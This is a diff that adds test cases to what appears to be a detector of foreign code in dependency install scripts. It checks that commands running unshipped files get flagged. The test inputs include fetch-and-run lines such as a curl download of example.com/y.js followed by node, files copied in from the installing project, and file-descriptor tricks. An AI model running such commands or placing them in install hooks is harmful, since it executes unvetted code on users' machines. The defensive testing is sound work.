@@ -106,4 +106,30 @@ describe(`outside attack round 13, V1, and the working folder's other names`, ()
         assert.deepEqual(analysed(command).foreignRuns, [], command);
     });
   });
+
+  describe(`a file the package does not ship, or a file descriptor, as what runs`, () => {
+    for (const command of [
+      `d=node_modules; cp "$INIT_CWD/$d/zqsib/x.js" y.js && node y.js`,
+      `cp $INIT_CWD/*/zqsib/x.js y.js && node y.js`,
+      `curl -so y.js https://example.com/y.js; node y.js`,
+      `sh gen.sh`,
+      `./made-at-run-time`,
+    ]) {
+      it(`refuses ${command} in a dependency: the file is made at run time`, () => {
+        assert.match(analysed(command).foreignRuns.join(`\n`), /which the package does not ship: a file made at run time, whose code no approval holds/);
+      });
+    }
+
+    for (const command of [`node /dev/fd/3 3<$INIT_CWD/x.js`, `node /dev/stdin < x.js`, `node /proc/self/fd/0`]) {
+      it(`refuses ${command}: the shell's redirections decide what runs`, () => {
+        assert.match(analysed(command).foreignRuns.join(`\n`), /a file descriptor the shell's redirections decide/);
+      });
+    }
+
+    it(`leaves the machine's files a stated limit`, () => {
+      const analysis = analysed(`node /usr/share/zq/cli.js --version`);
+      assert.deepEqual(analysis.foreignRuns, []);
+      assert.ok(analysis.unresolved.some(line => line.includes(`which is not a file of the package`)), analysis.unresolved.join());
+    });
+  });
 });
